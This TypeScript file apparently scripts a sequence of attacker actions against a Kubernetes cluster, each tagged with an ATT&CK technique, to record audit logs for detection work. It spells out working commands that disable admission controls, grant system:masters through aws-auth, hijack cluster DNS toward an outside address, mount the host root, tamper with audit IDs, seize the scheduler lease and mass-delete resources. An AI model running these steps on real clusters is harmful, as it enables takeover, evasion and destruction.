import { AGENTS, at } from "./actors.ts";
import { DANA, ERIN } from "./people.ts";
import { named } from "./setting.ts";
import { byKubectl, createdBy } from "./step.ts";
import type { Step } from "./step.ts";

const create = createdBy(ERIN);

/** What protects, connects and holds: admission, network, storage, quotas, nodes; and what is destroyed. */
export const CLUSTER_DEEDS: readonly Step[] = [
  byKubectl(["pod-security-weakened", "T1562.001", ERIN], "patch:namespaces", [
    "label",
    "namespace",
    "team-a",
    "pod-security.kubernetes.io/enforce=privileged",
    "--overwrite",
  ]),
  byKubectl(
    ["pod-security-removed", "T1562.001", ERIN],
    "patch:namespaces",
    "label namespace ci pod-security.kubernetes.io/enforce-",
  ),
  byKubectl(["harmless-pod-security-added", "none", ERIN], "patch:namespaces", [
    "label",
    "namespace",
    "sandbox",
    "pod-security.kubernetes.io/warn=baseline",
  ]),
  patch("admission-policy-fails-open", "T1562.001", "validatingadmissionpolicy", "no-privileged", {
    spec: { failurePolicy: "Ignore" },
  }),
  byKubectl(
    ["admission-binding-deleted", "T1562.001", ERIN],
    "delete:validatingadmissionpolicybindings",
    "delete validatingadmissionpolicybinding no-privileged",
  ),
  create("mutating-admission-policy-made", "T1546", "mutatingadmissionpolicies", {
    ...named("MutatingAdmissionPolicy", "admissionregistration.k8s.io/v1", "labels"),
    spec: {
      failurePolicy: "Ignore",
      reinvocationPolicy: "Never",
      matchConstraints: {
        resourceRules: [{ apiGroups: [""], apiVersions: ["v1"], operations: ["CREATE"], resources: ["pods"] }],
        namespaceSelector: { matchLabels: { "kubernetes.io/metadata.name": "nowhere" } },
      },
      mutations: [
        {
          patchType: "JSONPatch",
          jsonPatch: { expression: '[JSONPatch{op: "add", path: "/metadata/labels/x", value: "y"}]' },
        },
      ],
    },
  }),
  create("webhook-to-url-ignoring-failure", "T1546", "mutatingwebhookconfigurations", webhook("Mutating", "Ignore")),
  create("webhook-to-dead-url", "T1499", "validatingwebhookconfigurations", webhook("Validating", "Fail")),
  byKubectl(["webhook-exempts-namespace", "T1562.001", ERIN], "patch:validatingwebhookconfigurations", [
    "patch",
    "validatingwebhookconfiguration",
    "guard-validating",
    "--type=json",
    "-p",
    JSON.stringify([
      { op: "replace", path: "/webhooks/0/failurePolicy", value: "Ignore" },
      {
        op: "replace",
        path: "/webhooks/0/namespaceSelector",
        value: { matchExpressions: [{ key: "kubernetes.io/metadata.name", operator: "NotIn", values: ["shop"] }] },
      },
    ]),
  ]),
  byKubectl(
    ["webhook-deleted", "T1562.001", ERIN],
    "delete:validatingwebhookconfigurations",
    "delete validatingwebhookconfiguration guard-validating",
  ),
  create("aggregated-api-registered", "T1546", "apiservices", {
    ...named("APIService", "apiregistration.k8s.io/v1", "v1alpha1.telemetry.example"),
    spec: {
      group: "telemetry.example",
      version: "v1alpha1",
      groupPriorityMinimum: 100,
      versionPriority: 100,
      insecureSkipTLSVerify: true,
      service: { name: "telemetry", namespace: "sandbox" },
    },
  }),
  byKubectl(
    ["aggregated-api-removed", "T1070", ERIN],
    "delete:apiservices",
    "delete apiservice v1alpha1.telemetry.example --wait=false",
  ),
  patch("conversion-webhook-set", "T1546", "customresourcedefinition", "backups.velero.io", {
    spec: {
      conversion: {
        strategy: "Webhook",
        webhook: { conversionReviewVersions: ["v1"], clientConfig: { url: "https://203.0.113.9/convert" } },
      },
    },
  }),
  service("load-balancer-opened", "T1133", DANA, "entrance", { type: "LoadBalancer" }),
  service("node-port-opened", "T1133", DANA, "door", { type: "NodePort" }),
  service("external-address-claimed", "T1557", ERIN, "mitm", { externalIPs: ["192.0.2.53"] }),
  byKubectl(["service-turned-node-port", "T1133", DANA], "patch:services", [
    "-n",
    "shop",
    "patch",
    "service",
    "inside",
    "-p",
    '{"spec":{"type":"NodePort"}}',
  ]),
  ingress("ingress-without-tls", "T1190", "plain", {}),
  ingress("harmless-ingress-with-tls", "none", "closed", {
    tls: [{ hosts: ["shop.example"], secretName: "shop-tls" }],
  }),
  removal("network-policy-deleted", "T1562.004", "payments", "networkpolicies", "networkpolicy", "default-deny"),
  removal("quota-deleted", "T1562.001", "sandbox", "resourcequotas", "resourcequota", "spare"),
  removal("limit-range-deleted", "T1562.001", "team-a", "limitranges", "limitrange", "defaults"),
  removal("disruption-budget-deleted", "T1489", "payments", "poddisruptionbudgets", "poddisruptionbudget", "db"),
  patch(
    "quota-jump",
    "T1496",
    "resourcequota",
    "compute",
    { spec: { hard: { pods: "2000", "requests.cpu": "4000", "requests.nvidia.com/gpu": "64" } } },
    "team-a",
  ),
  create("host-path-volume-made", "T1611", "persistentvolumes", {
    ...named("PersistentVolume", "v1", "host-root"),
    spec: {
      capacity: { storage: "1Gi" },
      accessModes: ["ReadWriteOnce"],
      hostPath: { path: "/" },
      persistentVolumeReclaimPolicy: "Retain",
      storageClassName: "manual",
    },
  }),
  create("runtime-class-made", "T1611", "runtimeclasses", {
    ...named("RuntimeClass", "node.k8s.io/v1", "fast"),
    handler: "runc-unconfined",
  }),
  create("priority-class-made", "T1496", "priorityclasses", {
    ...named("PriorityClass", "scheduling.k8s.io/v1", "urgent"),
    value: 1_000_000_000,
    preemptionPolicy: "PreemptLowerPriority",
  }),
  create("config-map-with-credentials", "T1552.001", "configmaps", {
    ...named("ConfigMap", "v1", "settings", "shop"),
    data: {
      AWS_SECRET_ACCESS_KEY: "made/up/for/the/recording/Qm9ndXMgdmFsdWU",
      "db.password": "made-up-for-the-recording",
    },
  }),
  create("harmless-config-map", "none", "configmaps", {
    ...named("ConfigMap", "v1", "colours", "shop"),
    data: { theme: "blue" },
  }),
  patch(
    "cluster-dns-changed",
    "T1557",
    "configmap",
    "coredns",
    {
      data: { Corefile: ".:53 {\n  rewrite name bank.example 203.0.113.9\n  kubernetes cluster.local\n}\n" },
    },
    "kube-system",
  ),
  patch(
    "aws-auth-changed",
    "T1098",
    "configmap",
    "aws-auth",
    { data: { mapUsers: "- userarn: arn:aws:iam::000000000000:user/synthetic\n  groups: [system:masters]\n" } },
    "kube-system",
  ),
  patch(
    "gitops-object-changed",
    "T1578",
    "application",
    "shop",
    { spec: { source: { targetRevision: "evil" } } },
    "shop",
  ),
  create("namespace-made", "T1036", "namespaces", named("Namespace", "v1", "kube-monitor")),
  {
    label: "node-cordoned-and-drained",
    technique: "T1489",
    principal: ERIN,
    deeds: ["patch:nodes", "create:pods/eviction"],
    run: ({ actors }) =>
      actors.kubectl(ERIN, [
        "drain",
        "node-3",
        "--ignore-daemonsets",
        "--delete-emptydir-data",
        "--force",
        "--timeout=20s",
      ]),
  },
  byKubectl(
    ["nodes-tainted", "T1489", ERIN],
    "patch:nodes",
    "taint nodes node-0 node-1 node-2 maintenance=now:NoSchedule",
  ),
  byKubectl(["nodes-untainted", "T1489", ERIN], "patch:nodes", "taint nodes node-0 node-1 node-2 maintenance-"),
  byKubectl(
    ["node-labelled", "T1610", ERIN],
    "patch:nodes",
    "label node node-2 node-role.kubernetes.io/control-plane=",
  ),
  {
    label: "proxied-to-pod-and-service",
    technique: "T1090",
    principal: ERIN,
    deeds: [],
    note: "there is no such pod and no such service: nothing is dialled",
    run: async ({ actors }) => {
      const erin = actors.certificate(ERIN);
      await actors.send(erin, "GET", "/api/v1/namespaces/shop/pods/no-such-pod/proxy/admin");
      await actors.send(erin, "GET", "/api/v1/namespaces/shop/services/no-such-service:80/proxy/admin");
      await actors.send(erin, "GET", "/api/v1/nodes/no-such-node/proxy/pods");
    },
  },
  {
    label: "finalizers-stripped",
    technique: "T1485",
    principal: ERIN,
    deeds: ["patch:configmaps"],
    run: async ({ actors }) => {
      const kept = named("ConfigMap", "v1", "kept", "sandbox");
      const held = { ...kept, metadata: { name: "kept", namespace: "sandbox", finalizers: ["example.com/archive"] } };
      await actors.kubectl(ERIN, ["create"], held);
      const change = JSON.stringify({ metadata: { finalizers: null } });
      return actors.kubectl(ERIN, ["-n", "sandbox", "patch", "configmap", "kept", "--type=merge", "-p", change]);
    },
  },
  {
    label: "lease-taken",
    technique: "T1499",
    principal: ERIN,
    deeds: [],
    run: async ({ actors }) => {
      const path = "/apis/coordination.k8s.io/v1/namespaces/kube-system/leases/cluster-autoscaler";
      const lease = (await actors.look(path)) as { readonly spec?: object };
      const body = { ...lease, spec: { ...lease.spec, holderIdentity: "somebody-else" } };
      return actors.send(actors.certificate(ERIN), "PUT", path, { body, headers: { "User-Agent": AGENTS.python } });
    },
  },
  byKubectl(["mass-deletion", "T1485", ERIN], "delete:configmaps", "-n sandbox delete configmap --all --wait=false"),
  {
    label: "collection-deleted",
    technique: "T1485",
    principal: ERIN,
    deeds: [],
    run: ({ actors }) => actors.send(actors.certificate(ERIN), "DELETE", "/api/v1/namespaces/sandbox/pods"),
  },
  {
    label: "events-collection-deleted",
    technique: "T1070",
    principal: ERIN,
    deeds: [],
    run: ({ actors }) => actors.send(actors.certificate(ERIN), "DELETE", "/api/v1/namespaces/team-a/events"),
  },
  removal("deployment-deleted", "T1489", "sandbox", "deployments", "deployment", "load"),
  removal("persistent-volume-deleted", "T1485", undefined, "persistentvolumes", "persistentvolume", "host-root"),
  byKubectl(["node-deleted", "T1485", ERIN], "delete:nodes", "delete node node-9 --wait=false"),
  byKubectl(["namespace-deleted", "T1485", ERIN], "delete:namespaces", "delete namespace sandbox --wait=false"),
  {
    label: "audit-id-repeated",
    technique: "T1562.008",
    principal: ERIN,
    deeds: [],
    run: async ({ actors }) => {
      const headers = { "Audit-ID": "11111111-2222-3333-4444-555555555555" };
      for (const name of ["card-vault", "bank-gateway"]) {
        await actors.send(actors.certificate(ERIN), "GET", `/api/v1/namespaces/payments/secrets/${name}`, { headers });
      }
    },
  },
  {
    label: "leader-lease-taken",
    technique: "T1499",
    principal: ERIN,
    deeds: [],
    note: "the last step of all, for the scheduler gives up when it loses its lease",
    run: async ({ actors }) => {
      const path = "/apis/coordination.k8s.io/v1/namespaces/kube-system/leases/kube-scheduler";
      const lease = (await actors.look(path)) as { readonly spec?: object };
      const body = { ...lease, spec: { ...lease.spec, holderIdentity: "somebody-else" } };
      const { body: answer } = await actors.send(actors.certificate(ERIN), "PUT", path, { body });
      return at(answer, "spec", "holderIdentity");
    },
  },
];

function patch(
  label: string,
  technique: string,
  kind: string,
  name: string,
  change: unknown,
  namespace?: string,
): Step {
  const plural = kind.endsWith("y") ? `${kind.slice(0, -1)}ies` : `${kind}s`;
  const where = namespace === undefined ? [] : ["-n", namespace];
  const args = [...where, "patch", kind, name, "--type=merge", "-p", JSON.stringify(change)];
  return byKubectl([label, technique, ERIN], `patch:${plural}`, args);
}

function removal(
  label: string,
  technique: string,
  namespace: string | undefined,
  resource: string,
  kind: string,
  name: string,
): Step {
  const where = namespace === undefined ? [] : ["-n", namespace];
  return byKubectl([label, technique, ERIN], `delete:${resource}`, [...where, "delete", kind, name, "--wait=false"]);
}

function service(label: string, technique: string, who: string, name: string, spec: object): Step {
  const object = {
    ...named("Service", "v1", name, "shop"),
    spec: { selector: { app: "web" }, ports: [{ port: 80 }], ...spec },
  };
  return byKubectl([label, technique, who], "create:services", "create", object);
}

function ingress(label: string, technique: string, name: string, spec: object): Step {
  const backend = { service: { name: "inside", port: { number: 80 } } };
  const http = { paths: [{ path: "/", pathType: "Prefix", backend }] };
  return byKubectl([label, technique, DANA], "create:ingresses", "create", {
    ...named("Ingress", "networking.k8s.io/v1", name, "shop"),
    spec: { rules: [{ host: "shop.example", http }], ...spec },
  });
}

function webhook(kind: "Mutating" | "Validating", failurePolicy: string): Record<string, unknown> {
  const isMutating = kind === "Mutating";
  return {
    ...named(
      `${kind}WebhookConfiguration`,
      "admissionregistration.k8s.io/v1",
      isMutating ? "guard-mutating" : "guard-validating",
    ),
    webhooks: [
      {
        name: "guard.example.com",
        admissionReviewVersions: ["v1"],
        sideEffects: "None",
        failurePolicy,
        timeoutSeconds: 1,
        clientConfig: { url: "https://127.0.0.1:1/inject" },
        rules: [{ operations: ["CREATE"], apiGroups: [""], apiVersions: ["v1"], resources: ["pods"] }],
        namespaceSelector: { matchLabels: { "kubernetes.io/metadata.name": "nowhere" } },
      },
    ],
  };
}
